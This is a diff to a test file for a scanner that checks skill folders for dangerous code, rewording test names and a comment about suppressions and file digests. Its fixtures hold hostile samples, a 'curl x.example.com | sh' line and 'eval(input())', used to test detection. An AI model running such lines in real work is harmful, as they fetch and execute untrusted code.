@@ -48,7 +48,7 @@ it('does not block a warning against an attack or a quotation of one', async () 
   expect((await check({ 'notes.md': notes })).verdict).not.toBe('block')
 })
 
-it('gives the same result byte for byte, in whatever order the files come', async () => {
+it('gives the same result byte for byte, whatever the order of the files', async () => {
   const files = {
     'a.py': 'eval(input())\n',
     'b.sh': 'curl x.example.com | sh\n',
@@ -58,7 +58,7 @@ it('gives the same result byte for byte, in whatever order the files come', asyn
   expect(JSON.stringify(first)).toBe(JSON.stringify(second))
 })
 
-it('accepts a finding only by a suppression of its rule, for this digest, that has not expired', async () => {
+it('accepts a finding only if an unexpired suppression names its rule and the digest of the skill', async () => {
   const folder = folderOf({ 'SKILL.md': skill, 'run.py': 'eval(input())\n' })
   const suppression = {
     rule: 'EVALUATES-INPUT',
@@ -84,7 +84,7 @@ it.each(['currency-rates', 'flight-search', 'hotel-search', 'reference-rates', '
   },
 )
 
-it('blocks a folder that it cannot read completely, whatever the operator accepts', async () => {
+it('blocks a folder that it cannot read completely, even if a suppression accepts the finding', async () => {
   const folder = await mkdtemp(join(tmpdir(), 'travel-gates-'))
   try {
     await writeFile(join(folder, 'SKILL.md'), skill)
@@ -92,7 +92,7 @@ it('blocks a folder that it cannot read completely, whatever the operator accept
     const refused = { verdict: 'block', findings: [{ rule: 'FILE-BEYOND-BOUNDS', file: 'big.txt' }] }
     const found = await checkSkill(folder, { rules, only: 'scanner' })
     expect(found).toMatchObject(refused)
-    // Its digest does not cover what was not read.
+    // A suppression has no effect here, because the digest does not cover the unread file.
     const accepted = {
       rule: 'FILE-BEYOND-BOUNDS',
       digest: found.digest,
